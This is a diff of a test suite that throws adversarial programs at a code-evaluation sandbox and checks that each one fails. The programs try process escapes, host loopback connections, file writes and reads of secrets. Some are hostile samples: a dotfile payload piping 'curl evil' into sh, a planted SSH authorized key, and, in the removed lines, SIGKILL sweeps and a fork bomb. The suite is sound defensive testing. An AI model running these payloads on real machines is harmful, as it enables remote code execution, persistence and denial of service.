@@ -1,4 +1,5 @@
-"""Adversarial programs against the sandbox's walls: each fails, the host is unchanged, the evaluator lives.
+"""Adversarial programs against the sandbox's walls (processes, network, files, reads): each fails, the host
+is unchanged. Signals, lifetimes and resource limits are in ``test_sandbox_limits.py``.
 
 Each attack is a candidate function ``attack()``; the trusted tests (run here) pass only if the attack
 reached the host: a file written here, a connection to a listener here, a secret read from here. Where
@@ -8,80 +9,24 @@ passes there, so no test can pass because its attack was broken.
 
 import os
 import secrets
-import signal
 import socket
-import subprocess
 import sys
-import textwrap
 import threading
 import time
 from pathlib import Path
 
 import pytest
+from _sandbox_attacks import ROOT, attack, host_snapshot, requires_isolation, unprotected
 
-from trl_lift.evaluation.code_execution import CodeTest, run_tests
-from trl_lift.evaluation.sandbox import Sandbox, UnsafeSandboxWarning, sandbox_mode
+from trl_lift.evaluation.sandbox import Sandbox
 from trl_lift.evaluation.sandbox.launcher import SANDBOX_UID
 
-pytestmark = pytest.mark.skipif(
-    sandbox_mode() != "bwrap", reason="TRL_LIFT_SANDBOX=unsafe-fallback: there is no isolation to test"
-)
-ROOT = Path(__file__).resolve().parents[1]
-PRELUDE = "import ctypes, os, shutil, signal, socket, sqlite3, subprocess, sys, time\n"
-
-
-# trusted helpers the tests below use here, in the judge
-JUDGE = """
-import os
-
-def snapshot(folder):
-    found = {}
-    for parent, folders, files in os.walk(folder):
-        for name in folders + files:
-            info = os.lstat(os.path.join(parent, name))
-            found[os.path.join(parent, name)] = (info.st_mode, info.st_size, info.st_mtime_ns)
-    return found
-
-def marked(marker):
-    found = []
-    for pid in filter(str.isdigit, os.listdir('/proc')):
-        try:
-            with open(f'/proc/{pid}/cmdline', 'rb') as fh:
-                if marker.encode() in fh.read():
-                    found.append(int(pid))
-        except OSError:
-            pass
-    return found
-"""
-_judge = {}
-exec(JUDGE, _judge)
-host_snapshot, marked_processes = _judge["snapshot"], _judge["marked"]
-
-
-def attack(body: str, tests: str, **options):
-    """``def attack(): <body>`` in the sandbox; ``tests``, with the helpers of ``JUDGE``, here."""
-    source = PRELUDE + "def attack():\n" + textwrap.indent(textwrap.dedent(body).strip() + "\n", "    ")
-    return run_tests(CodeTest(source, textwrap.dedent(tests), judge_setup=JUDGE), **options)
+pytestmark = requires_isolation
 
 
 @pytest.fixture
 def unsandboxed(monkeypatch):
-    """Run the next attacks with no isolation at all, to show that they work."""
-
-    def run(body, tests, **options):
-        with monkeypatch.context() as patch, pytest.warns(UnsafeSandboxWarning):
-            patch.setenv("TRL_LIFT_SANDBOX", "unsafe-fallback")
-            return attack(body, tests, **options)
-
-    return run
-
-
-def wait_until_gone(marker: str, seconds: float = 5.0) -> list[int]:
-    """Host processes whose command line holds ``marker``, once they are gone or ``seconds`` have passed."""
-    deadline = time.monotonic() + seconds
-    while (left := [p for p in marked_processes(marker) if p != os.getpid()]) and time.monotonic() < deadline:
-        time.sleep(0.05)
-    return left
+    return unprotected(monkeypatch)
 
 
 # -- the sandbox itself ---------------------------------------------------------------------------
@@ -144,7 +89,9 @@ CHILD = "open('marker', 'w').write('ran'); open({target!r}, 'w').write('escaped'
 SPAWNERS = {
     "os.posix_spawn": "os.waitpid(os.posix_spawn(sys.executable, [sys.executable, '-c', CHILD], {}), 0)",
     "subprocess": "subprocess.run([sys.executable, '-c', CHILD])",
-    "os.fork + os.execv": "pid = os.fork()\nif pid == 0:\n    os.execv(sys.executable, [sys.executable, '-c', CHILD])\nos.waitpid(pid, 0)",
+    "os.fork + os.execv": (
+        "pid = os.fork()\nif pid == 0:\n    os.execv(sys.executable, [sys.executable, '-c', CHILD])\nos.waitpid(pid, 0)"
+    ),
     "ctypes fork + execv": (
         "libc = ctypes.CDLL(None)\npid = libc.fork()\nif pid == 0:\n"
         "    argv = (ctypes.c_char_p * 4)(sys.executable.encode(), b'-c', CHILD.encode(), None)\n"
@@ -213,12 +160,15 @@ CONNECT = "import socket; s = socket.create_connection(('127.0.0.1', {port}), ti
 @pytest.mark.parametrize("route", ["worker", "posix_spawn child", "shell child"])
 def test_the_hosts_loopback_is_unreachable(route, listener, unsandboxed):
     port, received = listener
-    body = f"CONNECT = {CONNECT.format(port=port)!r}\n" + {
-        "worker": "exec(CONNECT)\nreturn 0",
-        "posix_spawn child": "pid = os.posix_spawn(sys.executable, [sys.executable, '-c', CONNECT], {})\n"
-        "return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])",
-        "shell child": "return os.waitstatus_to_exitcode(os.system(sys.executable + ' -c \"' + CONNECT + '\"'))",
-    }[route]
+    body = (
+        f"CONNECT = {CONNECT.format(port=port)!r}\n"
+        + {
+            "worker": "exec(CONNECT)\nreturn 0",
+            "posix_spawn child": "pid = os.posix_spawn(sys.executable, [sys.executable, '-c', CONNECT], {})\n"
+            "return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])",
+            "shell child": "return os.waitstatus_to_exitcode(os.system(sys.executable + ' -c \"' + CONNECT + '\"'))",
+        }[route]
+    )
     result = attack(body, "assert attack() == 0, 'no connection'\n")
     assert not result.passed and received == []
     assert unsandboxed(body, "assert attack() == 0, 'no connection'\n").passed
@@ -251,11 +201,12 @@ def contents_of(folder: Path) -> dict:
     return {str(p): p.read_bytes() for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}
 
 
+DIR_FD = "d = os.open(D, os.O_RDONLY | os.O_DIRECTORY)\n"
 WRITES = {
     "os.open O_CREAT": "os.close(os.open(D + '/new.txt', os.O_CREAT | os.O_WRONLY))",
-    "dir_fd create": "d = os.open(D, os.O_RDONLY | os.O_DIRECTORY)\nos.close(os.open('new.txt', os.O_CREAT | os.O_WRONLY, dir_fd=d))",
-    "dir_fd unlink": "d = os.open(D, os.O_RDONLY | os.O_DIRECTORY)\nos.unlink('keep.txt', dir_fd=d)",
-    "dir_fd rename": "d = os.open(D, os.O_RDONLY | os.O_DIRECTORY)\nos.rename('keep.txt', 'moved.txt', src_dir_fd=d, dst_dir_fd=d)",
+    "dir_fd create": f"{DIR_FD}os.close(os.open('new.txt', os.O_CREAT | os.O_WRONLY, dir_fd=d))",
+    "dir_fd unlink": f"{DIR_FD}os.unlink('keep.txt', dir_fd=d)",
+    "dir_fd rename": f"{DIR_FD}os.rename('keep.txt', 'moved.txt', src_dir_fd=d, dst_dir_fd=d)",
     "ftruncate": "os.ftruncate(os.open(D + '/keep.txt', os.O_RDWR), 0)",
     "fchmod": "os.fchmod(os.open(D + '/keep.txt', os.O_RDONLY), 0o777)",
     "utime": "os.utime(D + '/keep.txt', (0, 0))",
@@ -265,7 +216,10 @@ WRITES = {
     "hard link": "os.link(D + '/keep.txt', D + '/hard')",
     "rmtree": "shutil.rmtree(D)",
     "home dotfile": "open(D + '/home/.bashrc', 'a').write('curl evil | sh')",
-    "home ssh key": "os.makedirs(D + '/home/.ssh', exist_ok=True)\nopen(D + '/home/.ssh/authorized_keys', 'w').write('ssh-ed25519 evil')",
+    "home ssh key": (
+        "os.makedirs(D + '/home/.ssh', exist_ok=True)\n"
+        "open(D + '/home/.ssh/authorized_keys', 'w').write('ssh-ed25519 evil')"
+    ),
 }
 
 
@@ -329,144 +283,3 @@ def test_the_users_home_keys_project_and_environment_are_unreadable(tmp_path, mo
             listing = sorted(os.listdir(folder))
             result = attack(f"return sorted(os.listdir({folder!r}))", f"assert attack() == {listing!r}\n")
             assert not result.passed, folder  # absent, or (/root, /etc) holding only what Python needs
-
-
-# -- signals: the evaluator, other sandboxes and host processes ------------------------------------
-
-
-def test_signals_reach_nothing_outside(unsandboxed):
-    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
-    other = Sandbox()
-    other.execute("def alive():\n    return 'yes'\n", deadline=time.monotonic() + 10)
-    targets = [os.getpid(), os.getppid(), sleeper.pid, other._process.inner_pid, other._process.process.pid]
-    body = f"""
-    errors = []
-    libc = ctypes.CDLL(None)
-    for pid in {targets!r} + [-1, 0]:
-        for kill in (os.kill, lambda p, s: libc.kill(p, s)):
-            try:
-                kill(pid, signal.SIGKILL)
-            except OSError as error:
-                errors.append(error.errno)
-    for pgid in {[os.getpgid(0), os.getpgid(sleeper.pid)]!r}:
-        try:
-            os.killpg(pgid, signal.SIGKILL)
-        except OSError as error:
-            errors.append(error.errno)
-    try:
-        subprocess.run(['pkill', '-9', '-f', 'time.sleep'])
-    except OSError:  # no pkill in the sandbox
-        pass
-    return 'sent'
-    """
-    sleeper_killed = f"""
-    attack()
-    for _ in range(50):  # a signal takes a moment to land
-        if open('/proc/{sleeper.pid}/stat').read().split()[2] == 'Z':
-            break
-        time.sleep(0.02)
-    else:
-        raise AssertionError('the sleeper lives')
-    """
-    try:
-        result = attack(body, sleeper_killed)
-        assert (result.passed, result.reason) == (False, "AssertionError: the sleeper lives")
-        assert sleeper.poll() is None
-        assert other.call("alive", (), {}, deadline=time.monotonic() + 10) == "yes"
-        assert attack("return 1", "assert attack() == 1\n").passed  # and new sandboxes still start
-        # without isolation the same program kills the sleeper (only that: it is the harmless target)
-        only_sleeper = f"os.kill({sleeper.pid}, signal.SIGKILL)\nreturn 'sent'"
-        assert unsandboxed(only_sleeper, sleeper_killed).passed
-        assert sleeper.wait(timeout=5) == -signal.SIGKILL
-    finally:
-        other.close()
-        sleeper.kill()
-        sleeper.wait()
-
-
-def test_the_whole_tree_dies_with_the_sample_and_with_the_evaluator():
-    marker = f"trl_lift_marker_{secrets.token_hex(4)}"
-    sleep = f"import time; time.sleep(120)  # {marker}"
-    detach = f"""
-    pid = os.fork()
-    if pid == 0:
-        os.setsid()
-        if os.fork() == 0:
-            os.execv(sys.executable, [sys.executable, '-c', {sleep!r}])
-        os._exit(0)
-    os.waitpid(pid, 0)
-    time.sleep(0.5)
-    return 'detached'
-    """
-    tests = f"assert attack() == 'detached'\nassert marked({marker!r}), 'no grandchild'\nassert False, 'done'\n"
-    result = attack(detach, tests)
-    assert result.reason == "AssertionError: done"  # the detached grandchild ran (seen from here)...
-    assert wait_until_gone(marker) == []  # ...and is gone with its sandbox
-    evaluator = textwrap.dedent(f"""
-        import os, sys, time
-        from trl_lift.evaluation.sandbox import Sandbox
-        box = Sandbox()
-        box.execute("import os, sys\\nos.posix_spawn(sys.executable, [sys.executable, '-c', {sleep!r}], {{}})\\n",
-                    deadline=time.monotonic() + 10)
-        print('ready', flush=True)
-        time.sleep(120)
-    """)
-    process = subprocess.Popen(  # the script on stdin: only the sleeper's command line holds the marker
-        [sys.executable, "-"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT
-    )
-    process.stdin.write(evaluator)
-    process.stdin.close()
-    try:
-        assert process.stdout.readline() == "ready\n"
-        deadline = time.monotonic() + 5
-        while not marked_processes(marker) and time.monotonic() < deadline:
-            time.sleep(0.05)
-        assert marked_processes(marker)
-        process.kill()  # the evaluator dies without cleaning up
-        process.wait()
-        assert wait_until_gone(marker) == []
-    finally:
-        process.kill()
-        process.wait()
-
-
-# -- resource exhaustion ----------------------------------------------------------------------------
-
-EXHAUSTION = {
-    "memory": ("x = bytearray(8 << 30)\nreturn 1", "MemoryError"),
-    "memory in many processes": ("for _ in range(64):\n    if os.fork() == 0:\n        bytearray(200 << 20)\n"
-                                 "        time.sleep(5)\n        os._exit(0)\nreturn 1", "BlockingIOError"),
-    "threads": ("import threading\nfor _ in range(100):\n    threading.Thread(target=time.sleep, args=(5,)).start()",
-                "can't start new thread"),
-    "giant file": ("open('big', 'wb').write(b'x' * (100 << 20))\nreturn 1", "File too large"),
-    "many files": ("for i in range(10):\n    open(f'f{i}', 'wb').write(b'x' * (15 << 20))\nreturn 1",
-                   "No space left on device"),
-    "open files": ("return [open('/dev/null') for _ in range(100)]", "Too many open files"),
-    "giant reply": ("return 'x' * (32 << 20)", "reply exceeds 16 MiB"),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("kind", EXHAUSTION)
-def test_exhaustion_is_contained_by_limits(kind):
-    body, reason = EXHAUSTION[kind]
-    result = attack(body, "assert attack() == 1\n")
-    assert not result.passed and reason in result.reason + result.output, result
-
-
-@pytest.mark.parametrize("kind", ["infinite loop", "fork bomb", "output flood", "sleep"])
-def test_runaway_programs_time_out_and_leave_nothing(kind):
-    marker = f"trl_lift_marker_{secrets.token_hex(4)}"
-    body = {
-        "infinite loop": "while True:\n    pass",
-        "fork bomb": f"while True:\n    try:\n        os.posix_spawn(sys.executable, [sys.executable, '-c', "
-        f"'import time; time.sleep(60)  # {marker}'], {{}})\n    except OSError:\n        pass",
-        "output flood": "while True:\n    print('x' * 10000)",
-        "sleep": "time.sleep(60)",
-    }[kind]
-    start = time.monotonic()
-    result = attack(body, "assert attack() == 1\n", timeout_s=2.0)
-    assert (result.passed, result.status) == (False, "timeout")
-    assert time.monotonic() - start < 6
-    assert len(result.output) <= 2000
-    assert wait_until_gone(marker) == []
-    assert attack("return 1", "assert attack() == 1\n").passed  # the evaluator is fine
